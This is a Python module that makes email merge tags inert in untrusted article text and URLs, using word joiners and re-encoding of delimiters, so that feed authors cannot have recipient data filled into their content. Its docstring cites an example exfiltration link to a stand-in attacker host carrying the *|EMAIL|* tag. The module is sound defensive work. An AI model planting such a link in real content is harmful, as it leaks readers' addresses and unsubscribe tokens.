"""Making merge tags inert in untrusted article data, so only the publisher's tags are filled.

The dispatcher fills ``*|EMAIL|*``, ``*|UNSUBSCRIBE_URL|*``, ``*|NAME|*``, ``*|ATTR:x|*`` (and their
percent-encoded form ``%2A%7C…%7C%2A``) per recipient wherever they appear in a campaign. Tags
written by a feed or page author (a link ``https://evil.example/?e=*|EMAIL|*``) would send every
reader's address and unsubscribe token to that author, so article-derived strings are neutralised
when the cards are built, before Jinja2, MJML and premailer; the per-recipient step stays a join.

- Text (titles, summaries, names, alt text): a WORD JOINER (U+2060, invisible and not a line
  break) goes between the two characters of every delimiter (``*|``, ``|*``, ``%2A%7C``,
  ``%7C%2A``) and at either end that could join a neighbouring value into one. Readers see the
  text as written.
- URLs (links, image ``src``): a pipe next to a star is percent-encoded (``*%7C``) and an encoded
  star next to an encoded pipe is written plainly (``*%7C``): the same URL to any server, a form
  the dispatcher does not know.

A publisher's own Markdown file opts in with front matter ``merge_tags: true``
(``Article.merge_tags``); no remote source can (see docs/security-merge-tags.md).
"""

from __future__ import annotations

import re

WORD_JOINER = "\u2060"

# A delimiter's first half, followed by its second half: the joiner goes between them.
_TEXT_DELIM = re.compile(r"\*(?=\|)|\|(?=\*)|%2A(?=%7C)|%7C(?=%2A)", re.IGNORECASE)
# Halves at the ends of a value, which a neighbouring value could complete.
_HEAD = re.compile(r"^(?:\||\*|%7C|%2A)", re.IGNORECASE)
_TAIL = re.compile(r"(?:\||\*|%7C|%2A)$", re.IGNORECASE)

_URL_DELIM = re.compile(r"\*\||\|\*|%2A%7C|%7C%2A", re.IGNORECASE)
_URL_FIX = {"*|": "*%7C", "|*": "%7C*"}


def inert_text(value: str) -> str:
    """``value`` with no merge-tag delimiter left in it (WORD JOINERs added, nothing removed)."""
    if not value:
        return value
    if "*" not in value and "|" not in value and "%" not in value:
        return value
    out = _TEXT_DELIM.sub(lambda m: m.group(0) + WORD_JOINER, value)
    if _HEAD.match(out):
        out = WORD_JOINER + out
    if _TAIL.search(out):
        out += WORD_JOINER
    return out


def _url_fix(m: re.Match) -> str:
    s = m.group(0)
    if s in _URL_FIX:
        return _URL_FIX[s]
    # %2A%7C → *%7C and %7C%2A → %7C*: keep the pipe's own spelling, write the star plainly
    return "*" + s[3:] if s[:3].upper() == "%2A" else s[:3] + "*"


def inert_url(url: str) -> str:
    """``url`` with no merge-tag delimiter left in it, meaning the same to the server it names.

    Each rewrite removes a raw ``|`` or a ``%2A`` and adds neither, so repeating until nothing
    matches ends (after at most as many rounds as the URL has pipes and encoded stars)."""
    if not url or ("|" not in url and "%" not in url):
        return url
    while True:
        fixed = _URL_DELIM.sub(_url_fix, url)
        if fixed == url:
            return url
        url = fixed
